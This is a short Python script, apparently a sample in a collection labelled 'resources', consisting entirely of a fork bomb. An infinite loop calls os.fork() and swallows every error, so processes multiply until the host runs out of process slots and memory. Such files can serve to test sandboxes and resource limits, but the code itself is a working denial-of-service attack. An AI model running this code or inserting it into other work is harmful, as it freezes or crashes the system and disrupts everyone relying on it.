"""Processes start processes without end.

class: resources
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
